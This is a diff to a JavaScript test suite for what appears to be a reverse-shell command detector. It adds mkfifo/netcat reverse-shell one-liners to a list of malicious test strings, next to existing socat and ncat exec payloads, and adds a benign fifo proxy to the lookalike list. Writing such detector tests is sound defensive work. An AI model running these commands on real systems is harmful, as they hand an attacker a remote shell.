@@ -52,6 +52,8 @@ describe('command patterns', () => {
       'socat tcp:1.2.3.4:80 exec:/bin/sh',
       'ncat --exec /bin/sh 1.2.3.4 9',
       'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 1.2.3.4 80 > /tmp/f',
+      'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 1.2.3.4 80 >/tmp/f',
+      'mkfifo /tmp/p; nc 1.2.3.4 4444 < /tmp/p | /bin/bash > /tmp/p 2>&1',
       'sh -i 2>&1 | nc 10.0.0.1 4444',
       'nc -l -p 4446 | sh',
       'nc 10.0.0.1 1 | /bin/bash 2>&1 | nc 10.0.0.1 2',
@@ -67,6 +69,7 @@ describe('command patterns', () => {
       'while :; do date; sleep 5; done | nc metrics 2003',
       'sh -c "ls | grep x"',
       'nc -z db 5432 && sh start.sh',
+      'mkfifo /tmp/f; nc -l -p 9000 < /tmp/f | nc 127.0.0.1 8080 > /tmp/f',
     ])
       expect(rs(ok), ok).toBe(false);
   });
